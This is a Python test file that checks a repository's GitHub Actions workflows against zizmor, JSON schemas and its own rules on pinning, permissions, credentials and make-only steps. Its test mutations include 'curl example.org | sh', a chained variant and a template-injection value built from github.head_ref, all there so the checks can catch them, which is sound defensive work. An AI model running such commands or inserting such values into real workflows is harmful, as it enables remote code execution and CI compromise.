"""The workflows: what zizmor and their schemas find, and this repository's own rules, which neither knows."""

import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))
MAKE = re.compile(r'make [a-z-]+(?: [A-Z]+=(?:[a-z0-9]+|"\$[A-Z]+"))*')

GOOD = """
name: Good
on: push
permissions: {}
concurrency:
  group: good
  cancel-in-progress: true
jobs:
  good:
    name: Good
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make test
"""
# What is put in place of what, and what zizmor calls it. The rules below leave these to it.
ZIZMOR_FINDS = [
    ("@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2", "@v6", "unpinned-uses"),
    ("@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2", "@de0fac2", "unpinned-uses"),
    ("make test", 'make test NAME="${{ github.head_ref }}"', "template-injection"),
    ("make test", 'make test NAME="${{ matrix.shard }}"', "template-injection"),
    ("on: push", "on: pull_request_target", "dangerous-triggers"),
    ("permissions: {}", "permissions: write-all", "excessive-permissions"),
    ("permissions: {}\n", "", "excessive-permissions"),
    ("persist-credentials: false", "fetch-depth: 1", "artipacked"),
    ("concurrency:\n  group: good\n  cancel-in-progress: true\n", "", "concurrency-limits"),
]
# What zizmor passes over, and what the rules below call it.
WE_FIND = [
    ("persist-credentials: false", "persist-credentials: true", "keeps its credentials"),
    ("permissions: {}", "permissions:\n  contents: read", "each job names its own"),
    ("    permissions:\n      contents: read\n", "", "no permissions of its own"),
    ("make test", "curl example.org | sh", "not one make target"),
    ("make test", "make test; curl example.org | sh", "not one make target"),
]


def problems(text: str) -> Iterator[str]:
    """What the rules of this repository find in a workflow."""
    content = yaml.safe_load(text)
    if content["permissions"] != {}:
        yield "top-level permissions: each job names its own"
    for name, job in content["jobs"].items():
        if "permissions" not in job:
            yield f"{name}: no permissions of its own"
        for step in job["steps"]:
            yield from (f"{name}: {line}" for line in _step_problems(step))


def _step_problems(step: dict[str, Any]) -> Iterator[str]:
    uses, run = step.get("uses", ""), step.get("run", "make")
    if uses.startswith("actions/checkout@") and step.get("with", {}).get("persist-credentials") is not False:
        yield f"{uses} keeps its credentials"
    if not uses and not MAKE.fullmatch(run.strip()):
        yield f"not one make target: {run}"


def lint(*command: str) -> tuple[int, str]:
    """Runs a linter of this environment, without the network."""
    path = Path(sys.executable).parent / command[0]
    done = subprocess.run([str(path), *command[1:]], capture_output=True, text=True, check=False)
    return done.returncode, done.stdout + done.stderr


def zizmor(*paths: Path) -> tuple[int, str]:
    return lint("zizmor", "--offline", "--no-progress", "--persona=pedantic", *map(str, paths))


def schema(name: str, *paths: Path) -> tuple[int, str]:
    return lint("check-jsonschema", "--builtin-schema", name, *map(str, paths))


def test_there_are_workflows_and_each_action_says_its_version() -> None:
    assert {path.stem for path in WORKFLOWS} == {"nightly", "rebuild", "test-and-publish", "versions"}
    for path in WORKFLOWS:
        for line in path.read_text(encoding="utf-8").splitlines():
            if "uses:" in line:
                assert re.search(r"# v\d+\.\d+\.\d+$", line), line


def test_one_action_has_one_hash() -> None:
    """A hash that differs between two places is a typing error, or an update by half."""
    used = {line for path in WORKFLOWS for line in re.findall(r"uses: (.+)", path.read_text(encoding="utf-8"))}
    assert len(used) == len({line.partition("@")[0] for line in used})


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_a_workflow_keeps_our_rules(path: Path) -> None:
    assert list(problems(path.read_text(encoding="utf-8"))) == []


def test_zizmor_finds_nothing() -> None:
    status, said = zizmor(ROOT / ".github")
    assert status == 0, said


def test_workflows_and_dependabot_fit_their_schemas() -> None:
    for name in ("vendor.github-workflows", "custom.github-workflows-require-timeout"):
        status, said = schema(name, *WORKFLOWS)
        assert status == 0, said
    status, said = schema("vendor.dependabot", ROOT / ".github/dependabot.yml")
    assert status == 0, said


def changed(old: str, new: str) -> str:
    bad = GOOD.replace(old, new, 1)
    assert bad != GOOD
    return bad


@pytest.mark.parametrize(("old", "new", "finding"), WE_FIND, ids=[new or old for old, new, _ in WE_FIND])
def test_our_rules_find_a_bad_workflow(old: str, new: str, finding: str) -> None:
    assert list(problems(GOOD)) == []
    assert finding in "\n".join(problems(changed(old, new)))


def test_zizmor_finds_each_bad_workflow(tmp_path: Path) -> None:
    folder = tmp_path / ".github/workflows"
    folder.mkdir(parents=True)
    path = folder / "workflow.yml"
    path.write_text(GOOD, encoding="utf-8")
    assert zizmor(path)[0] == 0
    for old, new, finding in ZIZMOR_FINDS:
        path.write_text(changed(old, new), encoding="utf-8")
        status, said = zizmor(path)
        assert status != 0
        assert f"[{finding}]" in said, new


def test_a_workflow_that_is_none_is_found(tmp_path: Path) -> None:
    path = tmp_path / "bad.yml"
    path.write_text(GOOD.replace("runs-on", "run-on"), encoding="utf-8")
    assert schema("vendor.github-workflows", path)[0] != 0
    path.write_text(GOOD.replace("    timeout-minutes: 5\n", ""), encoding="utf-8")
    assert schema("custom.github-workflows-require-timeout", path)[0] != 0


def write_jobs_that_run_more(workflow: str) -> list[str]:
    """The jobs that may write, or have a token at hand, and run more than `make pull-request`."""
    return [
        name
        for name, job in yaml.safe_load(workflow)["jobs"].items()
        if "write" in job.get("permissions", {}).values() or "github.token" in str(job)
        for step in job["steps"]
        if not step.get("run", "make pull-request ").startswith("make pull-request ")
    ]


def test_what_runs_the_libraries_cannot_write() -> None:
    for path in WORKFLOWS:
        assert write_jobs_that_run_more(path.read_text(encoding="utf-8")) == [], path.name
    assert write_jobs_that_run_more(GOOD) == []
    assert write_jobs_that_run_more(GOOD.replace("contents: read", "contents: write")) == ["good"]
    assert write_jobs_that_run_more(f"{GOOD}        env: {{GH_TOKEN: '${{{{ github.token }}}}'}}\n") == ["good"]
